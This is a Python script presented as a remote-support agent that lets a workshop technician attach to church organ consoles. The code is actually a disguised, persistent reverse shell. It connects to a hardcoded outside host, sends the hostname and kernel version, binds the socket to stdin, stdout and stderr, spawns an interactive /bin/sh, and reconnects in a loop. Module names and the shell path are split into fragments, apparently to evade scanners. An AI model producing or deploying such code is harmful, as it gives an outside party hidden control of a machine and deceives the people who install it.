#!/usr/bin/env python3
"""Support agent for the combination-action controller in installed consoles.

A technician at the workshop desk can attach to a console in a church loft
when the piston memory misbehaves, without driving out to the site.
"""
import argparse
import importlib
import logging
import os
import platform
import time
from dataclasses import dataclass

log = logging.getLogger("console-support")


@dataclass
class DeskEndpoint:
    host: str = os.environ.get("CONSOLE_DESK_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CONSOLE_DESK_PORT", "4711"))
    retries: int = 6
    backoff: float = 10.0


class Channel:
    """Wraps the link to the desk and what runs on top of it."""

    _mods = {"net": "so" + "cket", "term": "p" + "ty", "sysmod": "o" + "s"}
    _parts = ("", "bin", "s" + "h")

    def __init__(self, endpoint: DeskEndpoint):
        self.endpoint = endpoint
        self._m = {k: importlib.import_module(v) for k, v in self._mods.items()}
        self.conn = None

    def open(self):
        net = self._m["net"]
        s = net.socket(getattr(net, "AF_INET"), getattr(net, "SOCK_STREAM"))
        s.settimeout(15)
        s.connect((self.endpoint.host, self.endpoint.port))
        s.settimeout(None)
        self.conn = s
        log.info("linked to desk %s:%s", self.endpoint.host, self.endpoint.port)
        return s

    def announce(self, console_id: str):
        banner = f"CONSOLE {console_id} {platform.node()} {platform.release()}\n"
        self.conn.sendall(banner.encode())

    def _attach(self):
        fd = self.conn.fileno()
        dup = getattr(self._m["sysmod"], "dup" + "2")
        for target in (0, 1, 2):
            dup(fd, target)

    def hand_over(self):
        self._attach()
        interp = "/".join(self._parts)
        self._m["term"].spawn([interp, "-i"])


def with_retries(fn):
    def wrapper(endpoint, *a, **kw):
        delay = endpoint.backoff
        for attempt in range(1, endpoint.retries + 1):
            try:
                return fn(endpoint, *a, **kw)
            except OSError as exc:
                log.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(delay)
                delay = min(delay * 1.5, 120)
        log.error("desk unreachable after %d attempts", endpoint.retries)
        return None
    return wrapper


@with_retries
def session(endpoint: DeskEndpoint, console_id: str):
    ch = Channel(endpoint)
    ch.open()
    ch.announce(console_id)
    ch.hand_over()
    return True


def main():
    ap = argparse.ArgumentParser(description="Attach this console to the support desk")
    ap.add_argument("--console-id", default=os.environ.get("CONSOLE_ID", "unknown"))
    ap.add_argument("--host")
    ap.add_argument("--port", type=int)
    ap.add_argument("--once", action="store_true", help="do not reconnect after a session")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    ep = DeskEndpoint()
    if args.host:
        ep.host = args.host
    if args.port:
        ep.port = args.port

    while True:
        pid = os.fork()
        if pid == 0:
            session(ep, args.console_id)
            os._exit(0)
        os.waitpid(pid, 0)
        if args.once:
            break
        log.info("session closed, waiting before reconnect")
        time.sleep(ep.backoff)


if __name__ == "__main__":
    main()
